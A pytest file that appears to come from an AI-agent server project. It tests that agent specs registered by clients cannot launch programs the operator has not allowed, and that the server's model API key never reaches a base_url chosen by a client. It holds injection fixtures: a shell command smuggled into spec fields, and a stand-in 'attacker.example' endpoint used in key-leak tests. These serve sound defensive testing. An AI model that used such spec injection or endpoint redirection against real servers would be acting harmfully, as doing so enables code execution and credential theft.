"""A spec a client registers runs no program the operator did not allow.

Found by fuzzing the API: ``POST /v1/agents`` with ``harness: external`` and a
``command``, a stdio ``mcp_servers[].command`` or a ``terminals`` command made the next
session's turn start that program. And a spec naming its own ``base_url`` received the
server's model key.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx
import pytest
import trio

import omnigent
from omnigent.harnesses.native._cli import model_endpoint

from .serve_helpers import open_serve, scripted

MARKER = "omnigent-client-spec-ran"


def _client_specs(marker: Path) -> dict[str, dict[str, Any]]:
    touch = ["sh", "-c", f"touch {marker}"]
    external = scripted("ext")
    external["executor"]["config"] = {"harness": "external", "command": touch}
    return {
        "executor.config.command": external,
        "mcp_servers[0].command": scripted("mcp", mcp_servers=[{"name": "m", "command": touch}]),
        "terminals.sh.command": scripted("term", terminals={"sh": {"command": "sh"}}),
        "os_env.cwd": scripted("wide", os_env={"cwd": "/"}),
        "sub_agents[0].executor.config.command": scripted("boss", sub_agents=[external]),
    }


async def test_a_client_spec_naming_a_program_is_refused_and_nothing_runs(
    tmp_path: Path,
) -> None:
    marker = tmp_path / MARKER
    with trio.fail_after(30):
        async with open_serve(tmp_path) as served:
            for loc, spec in _client_specs(marker).items():
                answer = await served.client.post("/v1/agents", json=spec)
                assert answer.status_code == 422, answer.text
                details = answer.json()["error"]["details"]
                assert loc in [d["loc"] for d in details], details
            listed = (await served.client.get("/v1/agents")).json()["data"]
            assert listed == []
    assert not marker.exists()


async def test_the_operator_allows_a_program_by_name(tmp_path: Path) -> None:
    spec = scripted("term", terminals={"sh": {"command": "sh"}})
    with trio.fail_after(30):
        async with open_serve(tmp_path, "--allow-command", "sh") as served:
            answer = await served.client.post("/v1/agents", json=spec)
            assert answer.status_code == 201, answer.text
            other = scripted("term2", terminals={"py": {"command": "python3"}})
            refused = await served.client.post("/v1/agents", json=other)
            assert refused.status_code == 422, refused.text
            assert "--allow-command python3" in refused.text


async def test_the_operators_own_specs_may_name_programs(tmp_path: Path) -> None:
    agents = tmp_path / "agents"
    agents.mkdir()
    spec = scripted("term", terminals={"sh": {"command": "sh"}}, os_env={"cwd": str(tmp_path)})
    (agents / "term.json").write_text(json.dumps(spec), encoding="utf-8")
    with trio.fail_after(30):
        async with open_serve(tmp_path, "--agents", str(agents)) as served:
            names = [a["name"] for a in (await served.client.get("/v1/agents")).json()["data"]]
            assert names == ["term"]


async def test_the_library_refuses_client_specs_only_when_told(tmp_path: Path) -> None:
    spec = scripted("wide", os_env={"cwd": "/"})
    async with omnigent.open_runtime() as rt:
        await rt.create_agent(spec)  # the operator's own
        with pytest.raises(omnigent.SpecError) as caught:
            await rt.create_agent({**spec, "name": "wide2"}, from_client=True)
        assert [d.loc for d in caught.value.details] == ["os_env.cwd"]


# -- the server's model key stays with the server's endpoint ----------------------------

ENV = {"OPENAI_BASE_URL": "https://models.internal/v1", "OPENAI_API_KEY": "sk-server"}


@pytest.mark.parametrize(
    ("base_url", "api_key", "expect"),
    [
        (None, None, ("https://models.internal/v1", "sk-server")),
        ("https://models.internal/v1/", None, ("https://models.internal/v1", "sk-server")),
        ("https://attacker.example/v1", None, ("https://attacker.example/v1", None)),
        ("https://attacker.example/v1", "sk-own", ("https://attacker.example/v1", "sk-own")),
        (None, "sk-own", ("https://models.internal/v1", "sk-own")),
    ],
)
def test_the_environment_key_goes_to_the_environment_endpoint_only(
    base_url: str | None, api_key: str | None, expect: tuple[str, str | None]
) -> None:
    endpoint = model_endpoint(
        base_url,
        api_key,
        base_url_variable="OPENAI_BASE_URL",
        api_key_variable="OPENAI_API_KEY",
        environ=ENV,
    )
    assert (endpoint.base_url, endpoint.api_key) == expect


async def test_a_spec_with_its_own_endpoint_never_receives_the_servers_key(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for name, value in ENV.items():
        monkeypatch.setenv(name, value)
    seen: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(401, json={"error": {"message": "no"}})

    spec = {
        "name": "leaky",
        "executor": {
            "type": "omnigent",
            "config": {"model": "m", "base_url": "https://attacker.example/v1"},
        },
    }
    async with (
        httpx.AsyncClient(transport=httpx.MockTransport(handler)) as http,
        omnigent.open_runtime(
            http_client=http, allowed_model_urls=["https://attacker.example/"]
        ) as rt,
    ):
        # Allowed by a careless operator: still, the server's key stays home.
        agent = await rt.create_agent(spec, from_client=True)
        session = (await rt.create_session(agent.id)).id
        async with rt.subscribe(session) as events:
            await rt.send_message(session, "hi")
            with trio.fail_after(10):
                async for event in events:
                    if isinstance(event, omnigent.model.SessionStatusChanged) and event.status in (
                        "idle",
                        "failed",
                    ):
                        break
    assert seen and all(r.url.host == "attacker.example" for r in seen)
    assert all("authorization" not in r.headers for r in seen)
